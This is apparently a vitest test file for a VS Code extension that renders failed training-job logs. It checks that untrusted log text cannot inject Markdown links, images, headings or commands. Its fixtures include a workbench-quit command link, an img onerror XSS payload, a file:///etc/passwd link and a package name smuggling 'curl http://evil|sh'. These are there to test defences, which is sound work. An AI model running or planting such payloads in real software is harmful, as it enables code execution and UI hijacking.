import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { causeTable } from '../../../../src/analysis/failures/causeTable.ts';
import { explain } from '../../../../src/analysis/failures/explain.ts';
import type { FailureAccount } from '../../../../src/logs/failures/failureAccount.ts';
import { failureText } from '../../../../src/logs/failures/failureText.ts';
import { hostFailure } from '../../../../src/logs/failures/hostFailures.ts';
import { plainMessage } from '../../../../src/platform/plainMessage.ts';

const table = causeTable(JSON.parse(readFileSync('media/data/failures.json', 'utf8')));
const link = '[x](command:workbench.action.quit)';
const image = '![i](https://example.com/i.png) <img src=x onerror=alert(1)> <command:a.b>';
const hostile = ['````', link, '`````text', link, '~~~', link, '# heading', image, '\u2028', link];

/** The text of Markdown that is not within fences, where nothing is formatting. */
function outside(markdown: string): string {
  const kept: string[] = [];
  let fence: string | undefined;
  for (const line of markdown.split(/\r\n|\n|\r/)) {
    const [, marks, rest = ''] = /^ {0,3}(`{3,}|~{3,})(.*)$/.exec(line) ?? [];
    if (fence === undefined && marks !== undefined) fence = marks;
    else if (fence === undefined) kept.push(line);
    else if (marks?.startsWith(fence) === true && rest.trim() === '') fence = undefined;
  }
  expect(fence).toBeUndefined();
  return kept.join('\n');
}

function accountOf(reason: string, error: string, lines: readonly string[]): FailureAccount {
  const found = { frames: [{ file: `/opt/ml/code/${link}.py`, line: 1, code: '````' }], error, group: [] };
  const evidence = { reason, errors: [error], lines, facts: new Map([['script', link]]) };
  return {
    target: { kind: 'trainingJob', name: 'job-1' },
    title: 'Training job job-1',
    arn: '',
    status: 'Failed',
    reason,
    hosts: [{ host: 'algo-1', stream: 'job-1/algo-1', lines }],
    unread: 0,
    logTrouble: `refused ${link}`,
    error: found,
    explanations: explain(evidence, table),
    source: { folder: '' },
  };
}

describe('what a program prints', () => {
  it.each([
    ['an error', `ValueError: ${link} ${image}`],
    ['an error of several lines', ['ValueError: no', ...hostile].join('\n')],
    ['a carriage return', `ValueError: no\r\`\`\`\`\r${link}\n`],
    ['what an explanation quotes', `FileNotFoundError: [Errno 2] No such file or directory: '${link}'`],
    ['arguments', `train.py: error: the following arguments are required: ${link} \`a\` ${image}`],
  ])('makes no link, picture or heading of an account of its failure: %s', (_, error) => {
    const account = accountOf(['AlgorithmError', ...hostile].join('\n'), error, hostile);
    expect(error.startsWith('ValueError') || account.explanations.length > 0).toBe(true);
    const { text, links } = failureText(account);
    const rest = outside(text);
    expect(rest).not.toMatch(/(?<!\\)\]\(/);
    expect(rest).not.toMatch(/(?<!\\)</);
    expect(rest).not.toMatch(/(?<!\\)`/);
    expect(rest.match(/^#+ .*$/gm)).not.toContain('# heading');
    // Its own links stay where their words are.
    const lines = text.split(/\r\n|\n|\r/);
    for (const { line, start, end, step } of links)
      if (step.do === 'goTo') expect(lines[line]?.slice(start, end)).toContain('.py", line 1');
  });

  it('makes no link of a message', () => {
    const said = plainMessage(`failed: ${link} [a](https://example.com) [b](file:///etc/passwd)`);
    // As VS Code finds them in what notifications say.
    expect(said).not.toMatch(/\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)/i);
    expect(said).toContain('command:workbench.action.quit');
  });

  it('runs nothing in a command that is copied', () => {
    const errors = ['ERROR: No matching distribution found for x;curl${IFS}http://evil|sh'];
    const reason = 'AlgorithmError: InstallRequirementsError:';
    const evidence = { reason, errors, lines: errors, facts: new Map<string, string>() };
    const copies = explain(evidence, table).flatMap(({ fixes }) =>
      fixes.flatMap(({ action }) => (action?.do === 'copy' ? action.text : [])),
    );
    expect(copies).toContain("python -m pip index versions 'x;curl${IFS}http://evil|sh'");
    const lines = ['ERROR: No matching distribution found for a-b==1.0'];
    const plain = explain({ ...evidence, errors: lines, lines }, table);
    expect(JSON.stringify(plain)).toContain('pip index versions a-b==1.0"');
  });

  it('is kept as far as it is shown or looked through, whatever the length of its lines', () => {
    const lines = Array.from({ length: 3000 }, (_, n) => `${n} ${'x'.repeat(n === 2999 ? 1_000_000 : 100)}`);
    const kept = hostFailure({
      group: 'group',
      stream: 'job-1/algo-1',
      lines,
      times: lines.map((_, n) => n),
    });
    expect(kept.lines).toHaveLength(200);
    expect(kept.lines.at(-2)).toBe(lines.at(-2));
    expect(kept.at).toBe(2999);
  });
});
